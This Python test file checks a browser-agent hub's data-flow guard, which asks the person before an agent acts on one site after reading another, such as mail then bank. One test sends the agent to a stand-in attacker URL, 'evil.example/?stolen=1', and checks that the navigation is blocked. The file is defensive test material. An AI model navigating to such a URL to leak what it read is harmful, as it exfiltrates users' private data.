"""The data-flow guard: what an agent read on one site, it carries to another only with the person's word."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from tests.harness.agent import Agent, client, stateless
from tests.harness.fake_extension import tab
from tests.harness.hub import RunningHub, running_hub
from tests.harness.panel import Panel

MAIL, BANK, SHOP = "https://mail.example", "https://bank.example", "https://shop.example"
TABS = [tab(7, f"{MAIL}/in", active=True), tab(8, f"{BANK}/pay"), tab(9, f"{SHOP}/")]


def guarded(tmp_path: Path, **settings: Any) -> Any:
    return running_hub(tmp_path, **{"dataflow": "ask", **settings})


def place(hub: RunningHub, url: str) -> int:
    return next(each.tab_id for each in hub.hub.browsers.book if each.url.startswith(url))


async def act(hub: RunningHub, agent: Agent, url: str) -> dict[str, Any]:
    arguments = {"tabId": place(hub, url), "code": "return 1"}
    result: dict[str, Any] = (await agent.call("browser_execute_script", arguments))["result"]
    return result


async def test_the_person_is_asked_once_for_each_pair_with_the_reason(tmp_path: Path) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as panel, Agent(hub) as agent:
        assert not (await act(hub, agent, MAIL)).get("isError")
        assert not (await act(hub, agent, MAIL)).get("isError")
        calling = asyncio.create_task(act(hub, agent, BANK))
        request = await panel.decide("allow_once")
        assert not (await calling).get("isError")
        assert (request["reason"], request["origin"]) == ("dataflow", BANK)
        assert f"has read {MAIL}, and now acts on {BANK}" in request["message"]
        assert "allow_always" not in request["choices"]
        assert not (await act(hub, agent, BANK)).get("isError")
        # another site is another pair, and both that were read are named
        calling = asyncio.create_task(act(hub, agent, SHOP))
        request = await panel.decide("deny", "no")
        assert f"has read {MAIL}, {BANK}, and now acts on {SHOP}" in request["message"]
        assert (await calling)["isError"]
        # what only reads is never asked for
        info = await agent.call("browser_get_tab_info", {"tabId": place(hub, SHOP)})
        assert not info["result"].get("isError")


async def test_an_address_to_go_to_counts_as_the_place_that_is_acted_on(tmp_path: Path) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as panel, Agent(hub) as agent:
        await act(hub, agent, MAIL)
        given = {"url": "https://evil.example/?stolen=1", "tabId": place(hub, MAIL)}
        calling = asyncio.create_task(agent.call("browser_navigate_tab", given))
        request = await panel.decide("deny")
        assert request["origin"] == "https://evil.example"
        assert (await calling)["result"]["isError"]


async def test_sessions_do_not_carry_for_each_other_but_a_stateless_client_is_one(tmp_path: Path) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as panel, client(hub) as http:
        async with Agent(hub) as one, Agent(hub) as two:
            await act(hub, one, MAIL)
            assert not (await act(hub, two, BANK)).get("isError")
        for session in hub.hub.sessions.all():
            hub.hub.session_control.end(session.id, "done")

        async def call(url: str) -> dict[str, Any]:
            arguments = {"tabId": place(hub, url), "code": "return 1"}
            body, headers = stateless("tools/call", {"name": "browser_execute_script", "arguments": arguments})
            result: dict[str, Any] = (await http.post("/mcp", json=body, headers=headers)).json()["result"]
            return result

        await call(MAIL)
        calling = asyncio.create_task(call(BANK))
        assert (await panel.decide("allow_once"))["reason"] == "dataflow"
        assert not (await calling).get("isError")


async def test_an_act_that_is_asked_for_anyway_is_asked_for_once_with_both_reasons(tmp_path: Path) -> None:
    asks = guarded(tmp_path, permissions={"default": "ask"})
    async with asks as hub, Panel(hub, tabs=list(TABS)) as panel, Agent(hub) as agent:
        calling = asyncio.create_task(act(hub, agent, MAIL))
        await panel.decide("allow_session")
        await calling
        # the approval for the session is for the other site, and does not cover carrying
        calling = asyncio.create_task(act(hub, agent, BANK))
        request = await panel.decide("allow_session")
        assert request["reason"] == "permission"
        assert f"has read {MAIL}, and now acts on {BANK}" in request["message"]
        assert not (await calling).get("isError")
        assert not (await act(hub, agent, BANK)).get("isError")


@pytest.mark.parametrize("mode", ["warn", "off"])
async def test_it_can_be_set_to_warn_or_off(tmp_path: Path, mode: str) -> None:
    async with guarded(tmp_path, dataflow=mode) as hub, Panel(hub, tabs=list(TABS)), Agent(hub) as agent:
        await act(hub, agent, MAIL)
        assert not (await act(hub, agent, BANK)).get("isError")
        hub.hub.engine.audit.flush()
        lines = [json.loads(line) for line in hub.home.audit.read_text().splitlines()]
        warned = [line for line in lines if line["tool"] == "data flow"]
        assert [(line["read"], line["acts"]) for line in warned] == ([([MAIL], BANK)] if mode == "warn" else [])


async def test_a_browser_of_the_hubs_own_is_not_guarded(tmp_path: Path) -> None:
    async with guarded(tmp_path) as hub, Panel(hub, tabs=list(TABS)) as browser, Agent(hub) as agent:
        await browser.notify("extension.hello", {"managed": True})
        await browser.settle()
        await act(hub, agent, MAIL)
        assert not (await act(hub, agent, BANK)).get("isError")
